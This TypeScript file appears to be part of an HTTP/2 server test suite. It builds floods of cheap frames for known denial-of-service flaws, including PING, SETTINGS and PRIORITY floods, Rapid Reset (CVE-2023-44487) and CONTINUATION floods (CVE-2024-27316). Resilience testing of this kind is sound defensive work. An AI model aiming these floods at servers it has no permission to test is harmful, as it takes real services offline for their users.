// Floods of frames that cost their sender nothing, by their CVE numbers. Each has the start of the connection, and the
// repeated part.
import {
  ack,
  data,
  endHeaders,
  endStream,
  frame,
  frameTypes,
  headers,
  initialWindow,
  literal,
  post,
  postHead,
  reset,
  settings,
  streamIds,
  times,
  windowUpdate,
} from './frames.ts'

const opaque = Buffer.alloc(8)
const priority = Buffer.concat([Buffer.alloc(4), Buffer.of(16)])
const malformed = Buffer.concat([postHead('/'), literal('Upper', 'case')])
const longField = literal('name', 'x'.repeat(60))
const nameless = Buffer.concat([postHead('/'), times(100, () => literal('', ''))])
const windows = (streams: number, rounds: number): Buffer =>
  times(streams * rounds, (i) => windowUpdate(2 * (i % streams) + 1, 1))

export const floods: readonly (readonly [name: string, first: Buffer, flood: () => Buffer])[] = [
  [
    'large answers taken byte by byte (CVE-2019-9511)',
    settings([initialWindow, 0]),
    () => Buffer.concat([...streamIds(100).map((id) => post(id, '/large')), windows(100, 300)]),
  ],
  [
    'PING (CVE-2019-9512)',
    settings(),
    () => times(2_000, () => frame(frameTypes.ping, 0, 0, opaque)),
  ],
  [
    'PING acknowledgements that nobody asked for',
    settings(),
    () => times(2_000, () => frame(frameTypes.ping, ack, 0, opaque)),
  ],
  [
    'PRIORITY (CVE-2019-9513)',
    settings(),
    () => times(2_000, (i) => frame(frameTypes.priority, 0, 2 * i + 1, priority)),
  ],
  [
    'requests that must be reset (CVE-2019-9514)',
    settings(),
    () => times(1_000, (i) => headers(2 * i + 1, malformed)),
  ],
  ['SETTINGS (CVE-2019-9515)', settings(), () => times(1_000, () => settings())],
  [
    'SETTINGS acknowledgements that nobody asked for',
    settings(),
    () => times(2_000, () => frame(frameTypes.settings, ack, 0)),
  ],
  [
    'headers without names (CVE-2019-9516)',
    settings(),
    () => times(1_000, (i) => headers(2 * i + 1, nameless)),
  ],
  [
    'empty DATA (CVE-2019-9518)',
    settings(),
    () => Buffer.concat([post(1, '/', endHeaders), times(2_000, () => data(1, Buffer.alloc(0)))]),
  ],
  [
    'DATA of a byte each',
    settings(),
    () => Buffer.concat([post(1, '/', endHeaders), times(150_000, () => data(1, Buffer.alloc(1)))]),
  ],
  [
    'empty CONTINUATION (CVE-2019-9518)',
    settings(),
    () => Buffer.concat([post(1, '/', 0), times(100, () => frame(frameTypes.continuation, 0, 1))]),
  ],
  [
    'requests that are reset at once (CVE-2023-44487)',
    settings(),
    () => times(1_000, (i) => Buffer.concat([post(2 * i + 1, '/'), reset(2 * i + 1)])),
  ],
  [
    'CONTINUATION of a kilobyte each (CVE-2024-27316)',
    settings(),
    () =>
      Buffer.concat([
        post(1, '/', 0),
        times(1_000, () => frame(frameTypes.continuation, 0, 1, Buffer.alloc(1_024))),
      ]),
  ],
  [
    'CONTINUATION of a byte each (CVE-2024-27316)',
    settings(),
    () =>
      Buffer.concat([
        post(1, '/', 0),
        times(2_000, () => frame(frameTypes.continuation, 0, 1, Buffer.of(0x82))),
      ]),
  ],
  [
    'header lists that are too large',
    settings(),
    () =>
      times(50, (i) =>
        headers(2 * i + 1, Buffer.concat([postHead('/'), times(200, () => longField)])),
      ),
  ],
  ['frames of unknown types', settings(), () => times(2_000, () => frame(99, 0, 0, opaque))],
  [
    'window for streams that are gone',
    settings(),
    () =>
      Buffer.concat([
        post(1, '/', endHeaders | endStream),
        times(30_000, () => windowUpdate(1, 1)),
      ]),
  ],
]
